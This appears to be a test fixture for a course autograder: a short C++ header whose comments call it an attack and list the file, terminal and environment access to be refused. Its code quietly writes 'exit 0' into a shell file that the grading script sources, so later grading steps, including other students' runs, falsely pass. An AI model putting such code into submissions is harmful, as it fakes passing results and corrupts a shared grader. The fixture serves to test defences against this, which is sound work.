// attack: write ~/.course-gpu-env, which gpu-env.sh used to source before every grading step: every later step (and the next student's, on a runner that is not wiped) then "passes"
// lesson: 01
// file: exercise.hpp
// refused: files, the terminal and the environment
// runtime: yes
// @top
#include <cstdlib>
#include <fstream>
#include <string>
// @inside
inline const bool kPoisonHome = [] {
  if (const char* home = std::getenv("HOME")) {
    std::ofstream(std::string(home) + "/.course-gpu-env") << "exit 0\n";
  }
  return true;
}();
